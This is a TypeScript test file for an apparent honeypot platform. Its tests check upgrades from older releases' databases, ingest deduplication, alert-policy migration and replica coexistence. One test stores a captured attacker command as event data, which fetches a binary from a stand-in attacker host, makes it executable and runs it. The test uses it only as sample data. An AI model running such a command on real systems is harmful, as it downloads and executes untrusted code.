import { randomUUID } from 'node:crypto'
import { readdirSync, readFileSync } from 'node:fs'
import { gunzipSync } from 'node:zlib'
import type { AlertPolicyState, IngestMany, OpsSilence, Page, Session, SloStatus } from '@eviltwin/contract'
import pg from 'pg'
import { afterEach, describe, expect, inject, test } from 'vitest'
import { planCommit } from '../../features/ingest/commit-plan.js'
import { createRuleScorer } from '../../features/scoring/rules.js'
import { openDatabase } from '../../platform/postgres/database.js'
import { isConflict } from '../../platform/postgres/sqlstate.js'
import { anEvent } from '../events.js'
import type { PostgresServer } from '../postgres-servers.js'
import { silent } from '../silent.js'
import { createEmptyDatabase } from '../test-database.js'
import { SENSOR_KEY, startTestPlatform, type TestPlatform } from '../test-platform.js'

const HERE = new URL('./', import.meta.url)
const RELEASES = readdirSync(HERE, { withFileTypes: true }).flatMap((entry) =>
  entry.isDirectory() ? [entry.name] : [],
)

interface Expected {
  /**
   * Of the capture sent to this version: one record, whose sensor id is an array, was an event for 0.1.0 and is quarantined since 0.2.0; of
   * another one two attempts to log in are new, which 0.1.0 did not read.
   */
  again: { accepted: number; duplicates: number; quarantined: number }
  tables: Record<string, number>
  /** Afterwards. */
  sessions: Array<Pick<Session, 'id' | 'source_ip' | 'event_count' | 'threat_level'>>
}

describe.each(inject('postgresServers'))('data of an earlier release on $version', (server) => {
  const opened: Array<{ close(): Promise<void> }> = []
  afterEach(async () => {
    for (const each of opened.splice(0).reverse()) await each.close()
  })

  /** A server of today on a database that a release wrote. */
  async function upgraded(release: string, environment: Record<string, string> = {}): Promise<TestPlatform> {
    const url = await loaded(server, release, opened)
    const platform = await startTestPlatform(server, {
      environment: { DATABASE_URL: url, ...environment },
      beside: { databaseUrl: url } as TestPlatform,
    })
    opened.push(platform)
    return platform
  }

  test.each(RELEASES)(
    '%s: nothing is lost, and sending its log again stores nothing twice',
    async (release) => {
      const { again, sessions } = expectedOf(release)
      const api = await upgraded(release)
      const answer = await sendCapture(api, release)
      expect(answer).toMatchObject(again)
      const admin = await api.login()
      const listed: Session[] = []
      let cursor: string | null = ''
      while (cursor !== null) {
        const page: Page<Session> = (await (
          await api.call(`/sessions?limit=20${cursor && `&cursor=${encodeURIComponent(cursor)}`}`, {
            as: admin,
          })
        ).json()) as Page<Session>
        listed.push(...page.items)
        cursor = page.next_cursor
      }
      // Sessions are scored again, so levels are today's.
      const identity = (each: Pick<Session, 'id' | 'source_ip' | 'event_count'>) => ({
        id: each.id,
        source_ip: each.source_ip,
        event_count: each.event_count,
      })
      expect(listed.map(identity).sort((a, b) => (a.id < b.id ? -1 : 1))).toEqual(sessions.map(identity))
      for (const { id } of listed.slice(0, 5))
        expect((await api.call(`/sessions/${id}`, { as: admin })).status).toBe(200)
    },
  )

  test.each(RELEASES)('%s: new events are new, and known again by their current id', async (release) => {
    const api = await upgraded(release)
    const event = JSON.stringify({
      source_ip: '203.0.113.200',
      occurred_at: new Date().toISOString(),
      id: 'x',
    })
    const send = async () => (await (await api.send(`[${event},${event}]`)).json()) as IngestMany
    expect([await send(), await send()]).toMatchObject([
      { accepted: 1, duplicates: 1 },
      { accepted: 0, duplicates: 2 },
    ])
    const metrics = await (await api.call('/metrics')).text()
    expect(metrics).toMatch(/eviltwin_events_duplicate_total\{of="same_request"\} 2\n/)
    expect(metrics).toMatch(/eviltwin_events_duplicate_total\{of="stored"\} 1\n/)
  })

  test('0.1.0: the moment from which objectives judge another population is marked', async () => {
    const startedAt = Date.now()
    const api = await upgraded('0.1.0')
    const response = await api.call('/slos', { as: await api.login() })
    const { items } = (await response.json()) as { items: SloStatus[] }
    const sinceOf = (id: string) => items.find((slo) => slo.id === id)?.population.since ?? null
    expect(Date.parse(sinceOf('ingest-availability') ?? '')).toBeGreaterThanOrEqual(startedAt - 1000)
    expect(sinceOf('alert-delivery-delay')).toBeNull()
  })

  test('0.1.0: mutes for ever and silences for years end, and what was planned stays', async () => {
    const api = await upgraded('0.1.0')
    const as = await api.login()
    const read = async <Answer>(path: string) => (await (await api.call(path, { as })).json()) as Answer
    const latest = Date.now() + 90 * 86_400_000
    const { mutes } = await read<AlertPolicyState>('/alerts/policy')
    expect(mutes.map(({ reason }) => reason).sort()).toEqual(['being rebuilt', 'our own scanner'])
    for (const { expires_at } of mutes) expect(Date.parse(expires_at)).toBeLessThanOrEqual(latest)
    const { items: silences } = await read<{ items: OpsSilence[] }>('/ops/silences')
    const endOf = (reason: string) => silences.find((silence) => silence.reason === reason)?.ends_at ?? ''
    expect(Date.parse(endOf('a known leak'))).toBeLessThanOrEqual(latest)
    expect(Date.parse(endOf('the yearly maintenance'))).toBe(Date.parse('2036-01-01T06:00:00Z'))
  })

  test('0.1.0: a policy that nobody changed groups alerts by source, one that somebody chose stays', async () => {
    const groupingOf = async (api: TestPlatform) => {
      const answer = await api.call('/alerts/policy', { as: await api.login() })
      return ((await answer.json()) as AlertPolicyState).policy.campaign_grouping
    }
    const url = await loaded(server, '0.1.0', opened)
    const client = new pg.Client({ connectionString: url })
    await client.connect()
    opened.push({ close: () => client.end() })
    const start = async () => {
      const beside = { databaseUrl: url } as TestPlatform
      const api = await startTestPlatform(server, { environment: { DATABASE_URL: url }, beside })
      opened.push(api)
      return api
    }
    /** As if the migration had not been applied yet. */
    const setBack = async (minimumLevel: string) => {
      await client.query(`DELETE FROM schema_migrations WHERE name = '0030-campaigns-by-source.sql'`)
      await client.query(
        `UPDATE alert_policy SET minimum_level = $1, mute_known_scanners = true, campaign_grouping = 'off', campaign_window_minutes = 60`,
        [minimumLevel],
      )
    }
    await client.query(
      `UPDATE alert_policy SET minimum_level = 'high', mute_known_scanners = true, campaign_grouping = 'off', campaign_window_minutes = 60`,
    )
    const first = await start()
    expect(await groupingOf(first)).toBe('source')
    await setBack('critical')
    expect(await groupingOf(await start())).toBe('off')
    // Somebody chose `off`, and the audit log says so.
    const as = await first.login()
    const { policy } = (await (await first.call('/alerts/policy', { as })).json()) as AlertPolicyState
    await first.call('/alerts/policy', { method: 'PUT', as, body: JSON.stringify(policy) })
    await setBack('high')
    expect(await groupingOf(await start())).toBe('off')
  })

  test('a replica of 0.1.0 beside this one: each recognizes what the other stored', async () => {
    const url = await loaded(server, '0.1.0', opened)
    const client = new pg.Client({ connectionString: url })
    await client.connect()
    opened.push({ close: () => client.end() })
    await client.query(
      `INSERT INTO replicas (id, host, started_at, seen_at, leader, gauges) VALUES ($1, 'old', now(), now() + interval '1 day', false, '{}')`,
      [randomUUID()],
    )
    const api = await startTestPlatform(server, {
      environment: { DATABASE_URL: url },
      beside: { databaseUrl: url } as TestPlatform,
    })
    opened.push(api)
    expect(await sendCapture(api, '0.1.0')).toMatchObject(expectedOf('0.1.0').again)
    const own = '0b5e9c1e-7c1d-4f0e-9f6d-0d8d7f6a5b4c'
    await api.send(
      JSON.stringify({ source_ip: '203.0.113.200', occurred_at: new Date().toISOString(), id: own }),
    )
    const { rows } = await client.query('SELECT id FROM event_keys WHERE id = $1', [own])
    expect(rows).toHaveLength(1)
  })

  test('the statement with which 0.1.0 writes works on the schema of today', async () => {
    const { url, drop } = await createEmptyDatabase(server)
    opened.push({ close: drop })
    const platform = await startTestPlatform(server, {
      environment: { DATABASE_URL: url },
      beside: { databaseUrl: url } as TestPlatform,
    })
    opened.push(platform)
    const database = openDatabase({ connectionString: url }, silent('test'), () => {})
    opened.push(database)
    const text = readFileSync(new URL('0.1.0/ingest-write.sql', HERE), 'utf8')
    const command = 'wget http://evil.ru/x; chmod 777 x; ./x'
    const event = anEvent({ received_at: new Date().toISOString(), event_type: 'command', command })
    const plan = planCommit([event], new Map(), createRuleScorer())
    const write = () =>
      database.ingest.query({
        text,
        values: [
          ...[
            [event],
            plan.sessions,
            plan.attackers,
            plan.sensors,
            plan.eventRollups,
            plan.sessionRollups,
          ].map((rows) => JSON.stringify(rows)),
          JSON.stringify(plan.attackerHours),
          JSON.stringify(plan.escalations),
          plan.sessions.length,
        ],
      })
    await write()
    const [attacker] = await database.app.query<{ in_its_slot: boolean }>({
      text: 'SELECT last_seen_slot = seen_slot(last_seen_at) AS in_its_slot FROM attackers',
    })
    expect(attacker).toEqual({ in_its_slot: true })
    const sources = await database.app.query({ text: 'SELECT value, sensor_id FROM feed_sources' })
    expect(sources).toEqual([{ value: event.source_ip, sensor_id: event.sensor_id }])
    expect(isConflict(await write().catch((error: unknown) => error))).toBe(true)
  })
})

function expectedOf(release: string): Expected {
  return JSON.parse(readFileSync(new URL(`${release}/expected.json`, HERE), 'utf8')) as Expected
}

async function loaded(
  server: PostgresServer,
  release: string,
  opened: Array<{ close(): Promise<void> }>,
): Promise<string> {
  const { url, drop } = await createEmptyDatabase(server)
  opened.push({ close: drop })
  const client = new pg.Client({ connectionString: url })
  await client.connect()
  await client.query(gunzipSync(readFileSync(new URL(`${release}/database.sql.gz`, HERE))).toString('utf8'))
  await client.end()
  return url
}

async function sendCapture(api: TestPlatform, release: string): Promise<IngestMany> {
  const response = await api.call('/log', {
    method: 'POST',
    as: SENSOR_KEY,
    body: readFileSync(new URL(`${release}/capture.ndjson`, HERE)),
    headers: { 'content-type': 'application/x-ndjson' },
  })
  return (await response.json()) as IngestMany
}
